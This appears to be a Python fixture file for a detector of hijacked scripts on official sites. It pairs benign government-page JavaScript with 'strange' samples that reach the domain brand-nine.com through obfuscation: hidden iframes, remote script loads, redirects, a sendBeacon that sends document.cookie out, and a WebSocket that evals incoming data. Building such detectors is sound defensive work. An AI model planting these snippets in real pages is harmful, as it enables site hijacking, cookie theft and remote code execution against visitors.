"""Scripts as ordinary official pages carry them, and the same sinks in a stranger's service."""

# ruff: noqa: E501 (code reads better on one line)

ORDINARY: dict[str, str] = {
    "menu": "$(function(){$('.nav li').hover(function(){$(this).find('ul').stop().slideDown();},function(){$(this).find('ul').hide();});"
    "$('#list').append('<li><a href=\"/c'+id+'/\">'+name+'</a></li>');$('.top').html('<a href=\"'+base+'/index.html\">首页</a>');});",
    "statistics": "var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='//hm.baidu.com/hm.js?'+key;document.getElementsByTagName('head')[0].appendChild(hm);})();"
    "var cnzz_protocol=(('https:'==document.location.protocol)?'https://':'http://');document.write(unescape(\"%3Cspan id='cnzz_1'%3E%3C/span%3E%3Cscript src='\"+cnzz_protocol+\"s4.cnzz.com/stat.php%3Fid%3D1' type='text/javascript'%3E%3C/script%3E\"));",
    "marks": 'document.write(\'<a href="http://bszs.conac.cn/sitename?method=show&id=0A1" target="_blank"><img src="https://dcs.conac.cn/image/red.png"></a>\');'
    "var s=document.createElement('script');s.src='https://zfwzgl.www.gov.cn/exposure/jiucuo.js';document.body.appendChild(s);",
    "share": "function share(n){var u=encodeURIComponent(location.href),t=encodeURIComponent(document.title);var to={weibo:'http://service.weibo.com/share/share.php?url='+u+'&title='+t,qzone:'http://sns.qzone.qq.com/cgi-bin/qzshare/cgi_qzshare_onekey?url='+u,renren:'http://widget.renren.com/dialog/share?resourceUrl='+u};window.open(to[n]);}"
    "window._bd_share_config={};with(document)0[(getElementsByTagName('head')[0]||body).appendChild(createElement('script')).src='http://bdimg.share.baidu.com/static/api/js/share.js?v=89860593.js?cdnversion='+~(-new Date()/36e5)];",
    "map": "var map=new BMap.Map('map');map.centerAndZoom(new BMap.Point(111.1,36.2),15);var info=new BMap.InfoWindow('<a href=\"https://map.baidu.com/?q='+name+'\">到这里去</a>');"
    "var js=document.createElement('script');js.src='https://webapi.amap.com/maps?v=2.0&key='+k;document.head.appendChild(js);",
    "video": "var player=cyberplayer('player').setup({file:'http://vod.yunhe.gov.cn/2026/a.mp4'});$('#box').html('<embed src=\"/js/player.swf\" width=\"480\">');var hls=new Hls();hls.loadSource('https://live.yunhetv.com/live/xw.m3u8');",
    "weather": "$.ajax({url:'https://api.yhqxj.com/now?city='+city,dataType:'jsonp',success:function(d){$('#tq').html('<span>'+d.temp+'℃</span>'+d.text);}});fetch('https://devapi.qweather.com/v7/now').then(r=>r.json()).then(d=>{document.getElementById('w').innerHTML=d.now.text});",
    "accessibility": "(function(){var s=document.createElement('script');s.src='//gov.govwza.cn/dist/aria.js?appid='+id;s.defer=true;document.head.appendChild(s);})();",
    "search": "function go(){var f=document.createElement('form');f.action='/search/';f.method='get';document.body.appendChild(f);f.submit();}location.href='/s?q='+encodeURIComponent(q)+'&t='+['a','b'].join('');",
    "counter": "$.getScript('/js/hits.js?id='+id);$.get('/api/hits',function(d){$('#hits').html(d);});$('#side').load('/inc/side.html');new Image().src='/hit.gif?c='+document.cookie.length;",
    "phone": "if(/Android|iPhone/i.test(navigator.userAgent)){setTimeout(function(){location.replace('https://m.yunhe.gov.cn'+location.pathname);},100);}",
    "colours": "var c='rgb('+[10,20,30].join(',')+')';var t='abc'.split('').reverse().join('');var s=String.fromCharCode(65,66,67)+String.fromCharCode(13,10);var p=atob('eyJhIjoxfQ==');",
    "push": "(function(){var el=document.createElement('script');el.src='https://lf1-cdn-tos.bytegoofy.com/goofy/ttzz/push.js?'+k;el.id='ttzz';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(el,s);})(window)",
    "worker": "if('serviceWorker' in navigator){navigator.serviceWorker.register('/sw.js');}var ws=new WebSocket('wss://'+location.host+'/chat');",
    "local paper": "document.getElementById('more').onclick=function(){window.open('http://www.yhxww.com/'+n);};var links=['http://www.yhxww.com','http://www.yhtv.com'];",
}
STRANGE: dict[str, str] = {
    "appended": "jQuery('#foot').append('<a href=\"http://www.brand-nine.com/\">更多</a>');",
    "appended in parts": "var h='brand'+'-nine';var d=['www',h,'com'].join('.');$('body').prepend('<iframe src=\"//'+d+'/t\"></iframe>');",
    "loaded": "$.getScript('https://'+'cdn.brand-nine.com'+'/x.js');",
    "reversed": "var s='moc.enin-dnarb.www'.split('').reverse().join('');location.href='http://'+s;",
    "assigned": "var a='http://';a+='www.brand';a+='-nine.com';setTimeout(function(){top.location.assign(a)},3000);",
    "base64": "var u=atob('aHR0cDovL3d3dy5icmFuZC1uaW5lLmNvbS8=');window.location.replace(u);",
    "codes": "var u=String.fromCharCode(104,116,116,112,58,47,47)+'brand-nine.com';self.location=u;",
    "hex": r"window['\x6c\x6f\x63\x61\x74\x69\x6f\x6e']['href']='\x68\x74\x74\x70\x3a\x2f\x2fbrand-nine.com';",
    "stuffed": "location='h#t#t#p#:#/#/#b#r#a#n#d#-#n#i#n#e#.#c#o#m'.replace(/#/g,'');",
    "percent": "document.write(decodeURIComponent('%3Cscript src=%22//brand-nine.com/a.js%22%3E%3C/script%3E'));",
    "fetched": "fetch('https://brand-nine.com/p').then(r=>r.text()).then(t=>$('body').html(t));",
    "requested": "var x=new XMLHttpRequest();x.open('GET','//brand-nine.com/p');x.onload=function(){document.getElementById('a').innerHTML=x.responseText};x.send();",
    "into": "$('#zoom').load('//brand-nine.com/p.html');",
    "secrets": "navigator.sendBeacon('https://brand-nine.com/c',document.cookie);",
    "socket": "var w=new WebSocket('wss://ws.brand-nine.com/');w.onmessage=function(e){eval(e.data)};",
    "bought beacon": "var h='x9'+'bet';new Image().src='//'+h+'.top/p.gif';",
    "unknown head": "var s=document.createElement('script');s.src='//'+Math.random()+'.brand-nine.com/j.js';document.body.appendChild(s);",
    "form": "var f=document.createElement('form');f.action='http://brand-nine.com/login';document.body.appendChild(f);f.submit();",
}
